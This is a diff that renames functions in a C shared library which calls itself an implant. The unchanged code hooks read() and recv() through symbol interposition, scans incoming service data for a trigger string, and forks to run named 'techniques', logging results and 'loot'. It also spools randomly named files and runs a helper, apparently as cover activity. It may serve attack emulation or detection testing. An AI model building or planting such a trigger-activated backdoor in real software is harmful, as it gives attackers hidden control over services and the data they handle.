@@ -25,7 +25,7 @@
 
 static int has_ring;
 
-__attribute__((constructor)) static void begin(void)
+__attribute__((constructor)) static void start_implant(void)
 {
 	void *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
 
@@ -37,7 +37,7 @@ __attribute__((constructor)) static void begin(void)
 /* ---- ordinary work ---- */
 
 /* Letters that say little: names are never the same twice. */
-static void word(unsigned n, char ret[static 9])
+static void make_word(unsigned n, char ret[static 9])
 {
 	for (int i = 0; i < 8; i++) {
 		n = n * 1103515245u + 12345u;
@@ -46,14 +46,14 @@ static void word(unsigned n, char ret[static 9])
 	ret[8] = '\0';
 }
 
-static int spool(unsigned n)
+static int write_spool(unsigned n)
 {
 	char dir[64], path[96], name[9];
 	int fd;
 
-	word(n, name);
+	make_word(n, name);
 	snprintf(dir, sizeof(dir), SPOOL "/%s", name);
-	word(n + 7, name);
+	make_word(n + 7, name);
 	snprintf(path, sizeof(path), "%s/%s", dir, name);
 	mkdir(dir, 0755);
 	fd = open(path, O_RDWR | O_CREAT | O_CLOEXEC, 0644);
@@ -89,7 +89,7 @@ static int call_backend(void)
 	return r;
 }
 
-static int help(void)
+static int run_helper(void)
 {
 	char path[] = HELPER;
 	char *const argv[] = {path, NULL}, *const envp[] = {NULL};
@@ -105,16 +105,16 @@ static int help(void)
 	return status_of(status);
 }
 
-static int work(int n)
+static int do_work(int n)
 {
-	int r = spool((unsigned)n);
+	int r = write_spool((unsigned)n);
 
 	if (r == 0)
 		r = read_config();
 	for (int i = 0; i < 3 && r == 0 && n % 2 == 0; i++)
 		r = call_backend();
 	if (r == 0 && n % 3 == 0)
-		r = help();
+		r = run_helper();
 	if (r == 0 && has_ring)
 		r = -ring_do(&(struct io_uring_sqe){.opcode = IORING_OP_NOP, .flags = IOSQE_ASYNC});
 	return r;
@@ -122,16 +122,16 @@ static int work(int n)
 
 /* ---- requests ---- */
 
-static int perform(const char *name, int number)
+static int perform_technique(const char *name, int number)
 {
 	const struct technique *t = technique_find(name);
 
 	if (strcmp(name, "work") == 0)
-		return work(number);
+		return do_work(number);
 	return t ? t->run(number) : ENOSYS;
 }
 
-static void attempt(const char *name, int number)
+static void attempt_technique(const char *name, int number)
 {
 	const struct technique *t = technique_find(name);
 	int status = 0, r;
@@ -140,7 +140,7 @@ static void attempt(const char *name, int number)
 
 	memset(loot, 0, 64);
 	if (t && t->first) {
-		r = perform(name, number);
+		r = perform_technique(name, number);
 		dprintf(2, "\nimplant %s %d %d %s\n", name, getpid(), r, loot[0] ? loot : "-");
 		return;
 	}
@@ -150,7 +150,7 @@ static void attempt(const char *name, int number)
 	sigprocmask(SIG_BLOCK, &child, &before);
 	pid = fork();
 	if (pid == 0)
-		_exit(perform(name, number));
+		_exit(perform_technique(name, number));
 	r = pid < 0 ? errno : 0;
 	if (pid > 0) {
 		while (waitpid(pid, &status, 0) < 0 && errno == EINTR)
@@ -161,14 +161,14 @@ static void attempt(const char *name, int number)
 	dprintf(2, "\nimplant %s %d %d %s\n", name, pid, r, loot[0] ? loot : "-");
 }
 
-static void look(const char *data, ssize_t n)
+static void find_request(const char *data, ssize_t n)
 {
 	char name[64];
 	int number = 0;
 	const char *at = n > 0 ? memmem(data, (size_t)n, TRIGGER, strlen(TRIGGER)) : NULL;
 
 	if (at && sscanf(at + strlen(TRIGGER), "%63[a-z0-9_],%d;", name, &number) == 2)
-		attempt(name, number);
+		attempt_technique(name, number);
 }
 
 /* The services read their requests by one of these two. */
@@ -181,7 +181,7 @@ ssize_t read(int fd, void *buf, size_t count)
 	if (!real)
 		*(void **)&real = dlsym(RTLD_NEXT, "read");
 	n = real(fd, buf, count);
-	look(buf, n);
+	find_request(buf, n);
 	return n;
 }
 
@@ -193,6 +193,6 @@ ssize_t recv(int fd, void *buf, size_t count, int flags)
 	if (!real)
 		*(void **)&real = dlsym(RTLD_NEXT, "recv");
 	n = real(fd, buf, count, flags);
-	look(buf, n);
+	find_request(buf, n);
 	return n;
 }
